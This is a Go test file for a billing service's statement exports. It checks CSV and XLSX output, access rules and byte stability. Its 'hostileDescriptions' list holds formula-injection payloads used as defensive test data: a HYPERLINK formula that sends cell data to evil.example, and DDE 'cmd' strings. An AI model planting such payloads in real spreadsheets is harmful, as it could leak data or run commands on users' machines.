package httpapi_test

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/shopspring/decimal"
	"github.com/xuri/excelize/v2"

	"chargeback/internal/billing"
	"chargeback/internal/workbook/xlsx"
)

// hostileDescriptions are adjustment descriptions a spreadsheet would run
// as formulas, mangle or cut short; the workbook must show each as the
// CSV does (guarded) and as text.
var hostileDescriptions = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click here")`,
	"+cmd|' /C calc'!A0",
	"-1+1 correction",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\tleading tab, then =1+1",
	`Refund for "PACS" seat, per 'ticket' 4411`,
	"two lines:\nthe second",
	"_x0041_ is not an A",
	"emoji 🏥 and 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 outside the BMP",
	strings.Repeat("long 🧾 description, ", 23) + "end",
}

// workbookMonth posts a realistic March 2026: a monthly PACS licence
// fulfilled late (a recurring line and its SLA credit), an hourly job, a
// pharmacy scanner, and finance's adjustments with hostile text.
func workbookMonth(t *testing.T, e *env) {
	t.Helper()
	at := func(h int) { e.clock.Set(testNow.Add(time.Duration(h) * time.Hour)) }
	pacs := e.create(t, radiology, `{"service_id":"pacs-viewer-licence","quantity":2}`)["id"].(string)
	hourly := e.create(t, radiology, `{"service_id":"after-hours-support","quantity":2}`)["id"].(string)
	scanner := e.create(t, pharmacy, `{"service_id":"barcode-scanner","quantity":1}`)["id"].(string)
	e.must(t, 200, fulfiller, "POST", "/v1/requests/"+pacs+"/approve", "")
	at(1)
	e.must(t, 200, fulfiller, "POST", "/v1/requests/"+scanner+"/fulfill", "")
	e.must(t, 200, fulfiller, "POST", "/v1/requests/"+hourly+"/fulfill", `{"quantity":3.25}`)
	at(96)
	e.must(t, 200, fulfiller, "POST", "/v1/requests/"+pacs+"/fulfill", "")
	for i, desc := range hostileDescriptions {
		dept := []string{"radiology", "pharmacy"}[i%2]
		amount := []string{"1234567.89", "-0.01", "19.99", "-250.50"}[i%4]
		body, _ := json.Marshal(map[string]string{"department": dept, "month": "2026-03", "amount": amount, "description": desc})
		e.must(t, 201, finance, "POST", "/v1/adjustments", string(body))
	}
	at(200)
}

// getWorkbook fetches the month's workbook and checks how it travels:
// 200, its media type, an attachment named for the month, and a body
// API Gateway sends on as bytes (base64, flagged).
func getWorkbook(t *testing.T, e *env, who caller, target string, headers ...string) []byte {
	t.Helper()
	res := e.raw(t, who, "GET", target, headers...)
	if res.StatusCode != 200 {
		t.Fatalf("GET %s: got %d, want 200\n%s", target, res.StatusCode, res.Body)
	}
	checks := []struct{ what, got, want string }{
		{"Content-Type", res.Headers["Content-Type"], "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"},
		{"Content-Disposition", res.Headers["Content-Disposition"], `attachment; filename="statements-2026-03.xlsx"`},
		{"Content-Encoding", res.Headers["Content-Encoding"], ""},
		{"base64", fmt.Sprint(res.IsBase64Encoded), "true"},
	}
	for _, c := range checks {
		if c.got != c.want {
			t.Errorf("%s: got %q, want %q", c.what, c.got, c.want)
		}
	}
	b, err := base64.StdEncoding.DecodeString(res.Body)
	if err != nil || !bytes.HasPrefix(b, []byte("PK")) {
		t.Fatalf("the body is not a base64 zip: %v", err)
	}
	return b
}

// matchJSON compares every cell of the workbook with the month's JSON
// statements: the summary with the month's list (and each statement's
// name and checksum), each department's sheet with its statement's lines,
// text as the CSV guards it and numbers by value.
func matchJSON(t *testing.T, e *env, book []byte, month string) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(book))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	list := e.must(t, 200, finance, "GET", "/v1/statements/"+month, "")
	items := list["items"].([]any)
	sheets := []string{"Summary"}
	lines := 0
	for i, it := range items {
		item := it.(map[string]any)
		dept := item["department"].(string)
		sheets = append(sheets, dept)
		st := e.must(t, 200, finance, "GET", "/v1/statements/"+month+"/"+dept, "")
		checksum, _ := st["checksum"].(string)
		row := []any{dept, billing.SafeCell(st["department_name"].(string)), item["cost_center"], item["total"], item["lines"], item["status"], checksum}
		matchRow(t, f, "Summary", i+2, row)
		lines += int(item["lines"].(float64))
		jsonLines := st["lines"].([]any)
		if got, _ := f.GetRows(dept); len(got) != len(jsonLines)+1 {
			t.Errorf("sheet %s: got %d rows, want the header and %d lines", dept, len(got), len(jsonLines))
		}
		matchRow(t, f, dept, 1, toAny(billing.StatementHeader))
		for j, l := range jsonLines {
			line := l.(map[string]any)
			row := make([]any, len(billing.StatementHeader))
			for c, name := range billing.StatementHeader {
				row[c] = line[name]
				if s, ok := row[c].(string); ok && (name == "service_name" || name == "description" || name == "unit") {
					row[c] = billing.SafeCell(s)
				}
			}
			matchRow(t, f, dept, j+2, row)
		}
	}
	if diff := cmp.Diff(sheets, f.GetSheetList()); diff != "" {
		t.Errorf("sheets (-want +got):\n%s", diff)
	}
	matchRow(t, f, "Summary", len(items)+3, []any{"total", nil, nil, list["total"], float64(lines), list["status"]})
}

// TestMonthListAsCSV: the month's list of statements as CSV, a row per
// JSON item, for the portal's download.
func TestMonthListAsCSV(t *testing.T) {
	e := newEnv(t)
	workbookMonth(t, e)
	list := e.must(t, 200, finance, "GET", "/v1/statements/2026-03", "")
	want := "month,department,cost_center,total,lines,status\n"
	for _, it := range list["items"].([]any) {
		item := it.(map[string]any)
		want += fmt.Sprintf("2026-03,%s,%s,%s,%v,%s\n", item["department"], item["cost_center"], item["total"], item["lines"], item["status"])
	}
	res := e.do(t, leadership, "GET", "/v1/statements/2026-03?format=csv", "")
	if res.status != 200 || res.body != want || res.headers["Content-Disposition"] != `attachment; filename="statements-2026-03.csv"` {
		t.Errorf("got %d %q\n%s\nwant\n%s", res.status, res.headers["Content-Disposition"], res.body, want)
	}
}

func toAny(s []string) []any {
	out := make([]any, len(s))
	for i, v := range s {
		out[i] = v
	}
	return out
}

// matchRow compares a sheet's row with JSON values: a string is a text
// cell holding it, except where the JSON writes money or a quantity as a
// decimal string, which is a number cell of that value shown with two
// decimals; a float64 is a number cell; nil or "" is an empty cell.
func matchRow(t *testing.T, f *excelize.File, sheet string, row int, want []any) {
	t.Helper()
	for c, w := range want {
		ref, _ := excelize.CoordinatesToCellName(c+1, row)
		raw, _ := f.GetCellValue(sheet, ref, excelize.Options{RawCellValue: true})
		typ, _ := f.GetCellType(sheet, ref)
		if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
			t.Errorf("%s!%s is the formula %q", sheet, ref, formula)
		}
		head, _ := f.GetCellValue(sheet, fmt.Sprintf("%c1", 'A'+c))
		numeric := row > 1 && (head == "quantity" || head == "unit_price" || head == "amount" || head == "total" || head == "days" || head == "lines") ||
			(sheet == "Summary" && (c == 3 || c == 4) && w != nil)
		switch v := w.(type) {
		case nil:
			if raw != "" {
				t.Errorf("%s!%s: got %q, want an empty cell", sheet, ref, raw)
			}
		case float64:
			if got, err := decimal.NewFromString(raw); err != nil || !got.Equal(decimal.NewFromFloat(v)) || typ != excelize.CellTypeUnset {
				t.Errorf("%s!%s: got %q (type %v), want the number %v", sheet, ref, raw, typ, v)
			}
		case string:
			if !numeric || v == "" {
				if raw != v || (v != "" && typ != excelize.CellTypeSharedString) {
					t.Errorf("%s!%s: got %q (type %v), want the text %q", sheet, ref, raw, typ, v)
				}
				continue
			}
			got, err := decimal.NewFromString(raw)
			if err != nil || !got.Equal(decimal.RequireFromString(v)) || typ != excelize.CellTypeUnset {
				t.Errorf("%s!%s: got %q (type %v), want the number %s", sheet, ref, raw, typ, v)
			}
			if shown, _ := f.GetCellValue(sheet, ref); !strings.HasSuffix(shown, decimal.RequireFromString(v).StringFixed(2)[len(decimal.RequireFromString(v).StringFixed(2))-3:]) {
				t.Errorf("%s!%s shows %q, want two decimals", sheet, ref, shown)
			}
		default:
			t.Fatalf("%s!%s: cannot compare %T", sheet, ref, w)
		}
	}
}

// TestMonthWorkbookIsTheJSONStatements reads finance's workbook back, open
// and closed, and compares every cell with the JSON statements; a closed
// month's workbook is the same bytes however often it is fetched.
func TestMonthWorkbookIsTheJSONStatements(t *testing.T) {
	e := newEnv(t)
	workbookMonth(t, e)
	t.Run("open month, by format", func(t *testing.T) {
		matchJSON(t, e, getWorkbook(t, e, finance, "/v1/statements/2026-03?format=xlsx"), "2026-03")
	})
	t.Run("open month, by Accept", func(t *testing.T) {
		book := getWorkbook(t, e, leadership, "/v1/statements/2026-03", "Accept", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "Accept-Encoding", "gzip")
		matchJSON(t, e, book, "2026-03")
	})
	e.clock.Set(time.Date(2026, 4, 2, 9, 0, 0, 0, time.UTC))
	e.must(t, 200, finance, "POST", "/v1/periods/2026-03/close", "")
	first := getWorkbook(t, e, finance, "/v1/statements/2026-03?format=xlsx")
	t.Run("closed month", func(t *testing.T) {
		matchJSON(t, e, first, "2026-03")
	})
	t.Run("a closed month's workbook is byte-stable", func(t *testing.T) {
		e.clock.Set(time.Date(2026, 5, 20, 17, 30, 0, 0, time.UTC))
		again := getWorkbook(t, e, leadership, "/v1/statements/2026-03?format=xlsx")
		if !bytes.Equal(first, again) {
			t.Errorf("two reads of the closed month differ (%d and %d bytes)", len(first), len(again))
		}
		f, _ := excelize.OpenReader(bytes.NewReader(again))
		props, _ := f.GetDocProps()
		if props.Created != "2026-04-02T09:00:00Z" || props.Modified != props.Created {
			t.Errorf("created %s, modified %s; want both the close, 2026-04-02T09:00:00Z", props.Created, props.Modified)
		}
	})
}

// TestMonthWorkbookAccess: finance and leadership only; an unknown format
// is 400 naming format, an Accept that allows none of JSON, CSV and the
// workbook is 406, a month not yet begun is 400.
func TestMonthWorkbookAccess(t *testing.T) {
	e := newEnv(t)
	tests := []struct {
		name    string
		who     caller
		target  string
		headers []string
		want    int
		field   string
	}{
		{"a requester", radiology, "/v1/statements/2026-03?format=xlsx", nil, 403, ""},
		{"a requester by Accept", radiology, "/v1/statements/2026-03", []string{"Accept", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}, 403, ""},
		{"a fulfiller", fulfiller, "/v1/statements/2026-03?format=xlsx", nil, 403, ""},
		{"no token", nobody, "/v1/statements/2026-03?format=xlsx", nil, 401, ""},
		{"format XLSX in upper case", finance, "/v1/statements/2026-03?format=XLSX", nil, 400, "format"},
		{"format csv, the list as CSV", finance, "/v1/statements/2026-03?format=csv", nil, 200, ""},
		{"format xls", finance, "/v1/statements/2026-03?format=xls", nil, 400, "format"},
		{"Accept CSV, the list as CSV", finance, "/v1/statements/2026-03", []string{"Accept", "text/csv"}, 200, ""},
		{"Accept HTML", finance, "/v1/statements/2026-03", []string{"Accept", "text/html"}, 406, ""},
		{"Accept the old Excel format", finance, "/v1/statements/2026-03", []string{"Accept", "application/vnd.ms-excel"}, 406, ""},
		{"a month not yet begun", finance, "/v1/statements/2026-04?format=xlsx", nil, 400, "month"},
		{"an empty month", leadership, "/v1/statements/2026-02?format=xlsx", nil, 200, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := e.do(t, tt.who, "GET", tt.target, "", tt.headers...)
			if res.status != tt.want {
				t.Fatalf("got %d, want %d\n%s", res.status, tt.want, res.body)
			}
			if tt.field != "" {
				mustField(t, res, tt.field)
			}
			if tt.want >= 400 && !strings.HasPrefix(res.headers["Content-Type"], "application/problem+json") {
				t.Errorf("Content-Type %q, want a problem", res.headers["Content-Type"])
			}
		})
	}
}

// The department sheets' header is the statement CSV's.
func TestWorkbookSheetHeaderIsTheCSVHeader(t *testing.T) {
	if diff := cmp.Diff(billing.StatementHeader, xlsx.StatementHeader); diff != "" {
		t.Errorf("header (-CSV +workbook):\n%s", diff)
	}
}
